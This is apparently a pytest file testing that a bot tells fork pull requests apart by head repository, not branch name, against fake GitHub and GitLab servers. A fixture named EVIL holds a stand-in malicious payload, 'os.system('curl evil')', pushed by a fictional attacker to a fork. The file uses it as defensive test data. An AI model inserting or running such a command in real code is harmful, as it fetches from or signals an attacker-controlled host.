"""Pull requests from forks: their branch name proves nothing, their head repository does.

A fork here is a real bare repository cloned from the base one; its pull request uses the
bot's own branch name on purpose. Real clients over loopback HTTP against the fake forge.
"""

from __future__ import annotations

from collections.abc import Iterator

import pytest
import requests
from github.PullRequest import PullRequest as GhPullRequest

from bot.forge.base import Forge, PullRequestDraft
from bot.forge.github import client as github_module
from tests.fakeforge import FakeForge, FakeServer, git
from tests.fakeforge.scenario import HEAD, KERNEL_PATH, REPO, World
from tests.support_forge import KINDS, ForgeKind, fake_server, github_client

FORK = "mallory/kernels"
EVIL = {KERNEL_PATH: "import os\nos.system('curl evil')\n"}


@pytest.fixture(scope="module", params=sorted(KINDS))
def kind(request: pytest.FixtureRequest) -> ForgeKind:
    return KINDS[request.param]


@pytest.fixture(scope="module")
def server(kind: ForgeKind) -> Iterator[FakeServer]:
    with fake_server(github_spec=kind.name == "github") as srv:
        yield srv


@pytest.fixture
def forge(kind: ForgeKind, fake: FakeForge, world: World) -> Forge:
    return kind.forge(fake)


def _fork_pull(fake: FakeForge) -> int:
    fake.add_user("mallory")
    return fake.open_fork_pull(REPO, "mallory", HEAD, EVIL, author="mallory",
                               title="relu: faster").number


def test_a_fork_pull_request_says_so(fake: FakeForge, world: World, forge: Forge) -> None:
    number = _fork_pull(fake)
    fork_head = git("rev-parse", f"refs/heads/{HEAD}",
                    env={"GIT_DIR": str(fake.state.repos[FORK].git.path)}).strip()
    pull = forge.get_pull_request(number)
    assert (pull.from_fork, pull.head_repo, pull.head_branch, pull.author) == (
        True, FORK, HEAD, "mallory")
    assert pull.head_sha == fork_head != world.head_sha
    own = forge.get_pull_request(world.pull.number)
    assert (own.from_fork, own.head_repo) == (False, REPO)


def test_the_bots_branch_name_on_a_fork_is_not_the_bots_pull_request(
        fake: FakeForge, world: World, forge: Forge) -> None:
    _fork_pull(fake)
    found = forge.find_pull_request(HEAD)
    assert found is not None
    assert (found.number, found.from_fork) == (world.pull.number, False)
    fake.state.repos[REPO].issues[world.pull.number].state = "closed"
    assert forge.find_pull_request(HEAD) is None  # the fork's is still no match


def test_a_branch_of_the_same_name_may_still_get_its_own_pull_request(
        fake: FakeForge, world: World, kind: ForgeKind, forge: Forge) -> None:
    fake.human_commit(REPO, "opbot/gelu", {"kernels/gelu.py": "x"}, "gelu", author="opbot")
    fake.add_user("mallory")
    fake.open_fork_pull(REPO, "mallory", "opbot/gelu", EVIL, author="mallory")
    created = forge.create_pull_request(PullRequestDraft("opbot/gelu", "main", "gelu", ""))
    assert (created.from_fork, created.head_repo, created.author) == (False, REPO, "opbot")


def test_the_fork_is_a_real_repository(fake: FakeForge, world: World, kind: ForgeKind) -> None:
    _fork_pull(fake)
    fork = kind.forge(fake, repo=FORK)
    assert fork.default_branch() == "main"
    assert fork.file_content(KERNEL_PATH, HEAD) == EVIL[KERNEL_PATH]
    assert fork.branch_head("main") == fake.state.repos[REPO].git.resolve("main")


@pytest.mark.parametrize("kind", ["github"], indirect=True)
def test_github_head_label_and_repository(fake: FakeForge, world: World) -> None:
    number = _fork_pull(fake)
    raw = requests.get(f"{fake.github_url}/repos/{REPO}/pulls/{number}", timeout=10,
                       headers={"Authorization": f"token {fake.token}"}).json()
    assert raw["head"]["label"] == f"mallory:{HEAD}"
    assert (raw["head"]["repo"]["full_name"], raw["head"]["repo"]["fork"]) == (FORK, True)
    assert raw["base"]["repo"]["full_name"] == REPO


@pytest.mark.parametrize("kind", ["github"], indirect=True)
def test_github_deleted_fork(fake: FakeForge, world: World) -> None:
    """A deleted fork leaves head.repo null (github.com/github/rest-api-description/issues/
    424; the 23.0.2 description still says otherwise, so the fake cannot serve it)."""
    number = _fork_pull(fake)
    client = github_client(fake)
    raw = client.get_repo(REPO).get_pull(number).raw_data
    raw["head"]["repo"] = None
    pull = github_module._pull(client.create_from_raw_data(GhPullRequest, raw))
    assert (pull.from_fork, pull.head_repo, pull.head_branch) == (True, None, HEAD)


@pytest.mark.parametrize("kind", ["gitlab"], indirect=True)
def test_gitlab_source_and_target_projects(fake: FakeForge, world: World) -> None:
    number = _fork_pull(fake)
    raw = requests.get(f"{fake.gitlab_url}/api/v4/projects/{fake.state.repos[REPO].id}"
                       f"/merge_requests/{number}", headers={"PRIVATE-TOKEN": fake.token},
                       timeout=10).json()
    assert raw["source_project_id"] == fake.state.repos[FORK].id
    assert raw["target_project_id"] == fake.state.repos[REPO].id
